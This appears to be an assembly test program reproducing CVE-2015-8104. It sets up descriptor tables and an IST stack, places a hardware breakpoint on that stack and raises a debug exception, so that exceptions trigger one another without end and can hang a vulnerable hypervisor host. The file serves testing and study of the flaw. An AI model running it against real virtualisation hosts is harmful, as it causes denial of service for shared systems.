; A debug exception whose delivery raises the next: its handler's stack, which the processor takes anew each time, is
; watched by a breakpoint (CVE-2015-8104).

%include "long-mode.inc"

main:
  lgdt [own_descriptors_pointer]
  mov eax, task
  mov [own_descriptors + 16 + 2], ax
  shr eax, 16
  mov [own_descriptors + 16 + 4], al
  mov [own_descriptors + 16 + 7], ah
  mov eax, 16
  ltr ax
  mov eax, watched_stack_end
  mov [task + 36], rax              ; IST1
  mov eax, handler
  mov [handlers + 1 * 16], ax
  mov word [handlers + 1 * 16 + 2], 8
  mov word [handlers + 1 * 16 + 4], 0x8E01
  shr eax, 16
  mov [handlers + 1 * 16 + 6], ax
  lidt [handlers_pointer]
  mov esi, begun
  call print
  mov eax, watched_stack_end - 8
  mov dr0, rax
  mov eax, 0x90403                  ; breakpoint 0, writes of eight bytes
  mov dr7, rax
  int 1
handler:
  jmp handler

section .data progbits alloc noexec write align=16
own_descriptors:
  dq 0
  dq 0x00AF9A000000FFFF
  dq 0x0000890000000067
  dq 0
own_descriptors_pointer:
  dw $ - own_descriptors - 1
  dd own_descriptors, 0
handlers_pointer:
  dw 32 * 16 - 1
  dd handlers, 0
begun: db "debug-storm: now", 10, 0
align 16
handlers: times 32 * 16 db 0
task: times 104 db 0
  times 512 db 0
align 16
watched_stack_end:
